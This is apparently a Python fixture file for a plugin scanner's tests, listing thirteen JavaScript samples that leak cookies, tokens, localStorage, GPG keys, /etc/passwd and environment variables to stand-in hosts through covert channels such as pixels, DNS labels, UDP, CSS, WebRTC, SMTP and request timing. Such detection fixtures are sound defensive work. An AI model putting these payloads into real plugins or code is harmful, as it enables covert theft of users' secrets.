"""The ways out that are not a plain request: images, names, styles, sockets, frames."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, declared, hooks, online, sdk_plugin, tsc_widget

_FAMILY = "exfiltration-channel"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="tracking-image",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(r"""
                const pixel = new Image(1, 1);
                pixel.src = "https://pix.example.org/p.gif?d=" + btoa(unescape(encodeURIComponent(document.body.innerText)));
                setState({ text: config.text });
            """)
        },
    ),
    Sample(
        name="hidden-form-submitted",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = function (context) {
  var frame = document.createElement('iframe');
  frame.name = 'f' + Math.random().toString(36).slice(2);
  frame.style.display = 'none';
  var form = document.createElement('form');
  form.action = 'https://forms.example.com/submit';
  form.method = 'POST';
  form.target = frame.name;
  Object.keys(sessionStorage).forEach(function (key) {
    var field = document.createElement('input');
    field.type = 'hidden';
    field.name = key;
    field.value = sessionStorage[key];
    form.appendChild(field);
  });
  document.body.appendChild(frame);
  document.body.appendChild(form);
  form.submit();
};
"""
        },
    ),
    Sample(
        name="dns-labels",
        family=_FAMILY,
        files={
            "dist/index.js": r"""import { Resolver } from 'node:dns/promises';
import { userInfo, hostname } from 'node:os';
import { readFileSync } from 'node:fs';

const resolver = new Resolver();
resolver.setServers(['203.0.113.53']);

const label = (text) => Buffer.from(text).toString('hex').match(/.{1,60}/g) ?? [];

export async function onEnable() {
  const text = JSON.stringify([hostname(), userInfo().username, readFileSync('/etc/hosts', 'utf8')]);
  let n = 0;
  for (const part of label(text)) {
    await resolver.resolve4(`${n++}.${part}.t.example.org`).catch(() => undefined);
  }
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="raw-socket-with-files",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const socket = tls.connect({ host: 'drop.example.net', port: 8443, rejectUnauthorized: false }, () => {
                  fs.createReadStream(path.join(os.homedir(), '.gnupg', 'secring.gpg')).pipe(socket);
                });
                socket.on('error', () => logger.debug('offline'));
                """,
                above="""
                const fs = require('fs');
                const os = require('os');
                const path = require('path');
                const tls = require('tls');
                """,
            )
        },
    ),
    Sample(
        name="datagrams",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const dgram = require('node:dgram');
const { networkInterfaces } = require('node:os');

exports.onEnable = ({ user }) => {
  const socket = dgram.createSocket('udp4');
  const text = JSON.stringify({ user, addresses: networkInterfaces(), argv: process.argv, env: { ...process.env } });
  for (let at = 0; at < text.length; at += 512) {
    socket.send(text.slice(at, at + 512), 5353, '203.0.113.90');
  }
  setTimeout(() => socket.close(), 1000).unref();
};
"""
        },
    ),
    Sample(
        name="css-background-per-keystroke",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const style = document.createElement('style');
const letters = 'abcdefghijklmnopqrstuvwxyz0123456789'.split('');
style.textContent = letters
  .map((c) => `input[type="password"][value$="${c}"] { background-image: url("https://css.example.com/${c}"); }`)
  .join('\n');

exports.Theme = function Theme() {
  document.head.append(style);
  document.querySelectorAll('input[type="password"]').forEach((field) => {
    field.addEventListener('input', () => field.setAttribute('value', field.value));
  });
  return null;
};
"""
        },
    ),
    Sample(
        name="css-property-url",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const secret = localStorage.getItem('refresh_token') ?? '';
                document.documentElement.style.setProperty('--wallpaper', `url(https://img.example.net/w/${encodeURIComponent(secret)}.png)`);
                document.body.style.backgroundImage = 'var(--wallpaper)';
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="rtc-candidate-address",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(r"""
                const secret = [...document.cookie].map((c) => c.charCodeAt(0).toString(16)).join("");
                const peer = new RTCPeerConnection({
                    iceServers: [{ urls: `turn:${secret.slice(0, 60)}.r.example.org:3478?transport=tcp`, username: "u", credential: "c" }],
                });
                peer.createDataChannel("d");
                peer.createOffer().then((offer) => peer.setLocalDescription(offer));
                setState({ text: "No messages" });
                return () => peer.close();
            """)
        },
    ),
    Sample(
        name="rtc-data-channel-of-storage",
        family=_FAMILY,
        files={
            "dist/index.js": r"""export async function onEnable({ api, user }) {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.example.com' }] });
  const lane = peer.createDataChannel('sync', { ordered: true });
  lane.onopen = () => {
    lane.send(JSON.stringify({ user, store: { ...localStorage }, dom: document.documentElement.outerHTML }));
  };
  await peer.setLocalDescription(await peer.createOffer());
  const { data } = await api.http.post('https://signal.example.com/offer', peer.localDescription);
  await peer.setRemoteDescription(data);
}
"""
        },
        manifest=online("https://signal.example.com"),
        package=ESM,
    ),
    Sample(
        name="prefetch-link",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const keys = await storage.keys();
                for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) {
                  const link = document.createElement('link');
                  link.rel = rel;
                  link.href = `//${btoa(keys.join()).replace(/=/g, '').toLowerCase()}.${btoa(document.cookie).slice(0, 50)}.example.net/`;
                  document.head.appendChild(link);
                }
                """
            )
        },
    ),
    Sample(
        name="navigation-with-hash",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const { jsx } = require('react/jsx-runtime');

exports.Support = function Support({ context }) {
  const open = () => {
    const state = encodeURIComponent(JSON.stringify({ jwt: localStorage.jwt, conf: context.config }));
    window.open('https://support.example.org/start#' + state, '_blank', 'width=1,height=1,left=9999');
  };
  return jsx('button', { onMouseEnter: open, children: 'Support' });
};
"""
        },
    ),
    Sample(
        name="secret-through-host-http",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const rows = [];
                for (const key of await context.storage.keys()) rows.push([key, await context.storage.get(key)]);
                const journal = await context.api.journal?.list({ limit: 1000 });
                await context.api.http.request({ method: 'PUT', url: 'https://198.51.100.77/ingest', data: { rows, journal, cookie: document.cookie } });
                """
            )
        },
        manifest=declared("network-access", "storage-read"),
        package=ESM,
    ),
    Sample(
        name="mail-server-spoken-to",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const net = require('net');
const fs = require('fs');

function mail(subject, text) {
  const lines = ['EHLO localhost', 'MAIL FROM:<day@example.org>', 'RCPT TO:<box@example.net>', 'DATA',
    `Subject: ${subject}\r\n\r\n${text}\r\n.`, 'QUIT'];
  const socket = net.createConnection(25, 'mx.example.net');
  socket.on('data', () => { const line = lines.shift(); if (line) socket.write(line + '\r\n'); });
}

exports.onEnable = () => mail('passwd', fs.readFileSync('/etc/passwd', 'utf8'));
"""
        },
    ),
    Sample(
        name="small-pieces-in-timing-of-requests",
        family=_FAMILY,
        files={
            "dist/index.js": r"""const bits = (text) => [...new TextEncoder().encode(text)].flatMap((byte) => byte.toString(2).padStart(8, '0').split(''));
const wait = (ms) => new Promise((done) => setTimeout(done, ms));

export async function onEnable({ api }) {
  const secret = document.cookie.split('; ').find((c) => c.startsWith('session='));
  for (const bit of bits(secret ?? '')) {
    await api.http.get('https://weather.example.org/icon/' + (bit === '1' ? 'sun' : 'rain') + '.svg');
    await wait(1500 + Math.random() * 500);
  }
}
"""
        },
        manifest=online("https://weather.example.org"),
        package=ESM,
    ),
)
